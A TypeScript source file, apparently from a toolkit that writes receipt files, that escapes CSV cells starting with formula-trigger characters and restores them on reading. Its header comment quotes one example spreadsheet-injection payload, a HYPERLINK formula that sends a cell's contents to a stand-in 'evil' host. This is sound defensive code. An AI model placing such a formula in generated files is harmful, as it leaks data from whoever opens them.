/**
 * CSV formula neutralisation (OWASP, "CSV Injection"): a spreadsheet runs a cell that
 * starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a model
 * answer like `=HYPERLINK("http://evil/?"&A1)` in a receipt file would act when a
 * colleague opens it. Such string cells are written with a leading `'`, which spreadsheets
 * show as text and do not evaluate.
 *
 * The kit reads its own files back exactly: a string that starts with one or more `'`
 * followed by a trigger character gets one more `'` on writing and loses one on reading,
 * so every string round-trips (`=x` -> `'=x` -> `=x`; `'=x` -> `''=x` -> `'=x`; `'abc`
 * is left alone both ways).
 */

/** Characters that make a spreadsheet treat a cell as a formula. */
const TRIGGER = /^'*[=+\-@\t\r]/;

/** The cell text to write for a string value. */
export function neutraliseFormula(value: string): string {
  return TRIGGER.test(value) ? `'${value}` : value;
}

/** The string value of a cell the kit wrote (the inverse of `neutraliseFormula`). */
export function restoreFormula(cell: string): string {
  return cell.length > 1 && cell.charCodeAt(0) === 0x27 && TRIGGER.test(cell.slice(1)) ? cell.slice(1) : cell;
}
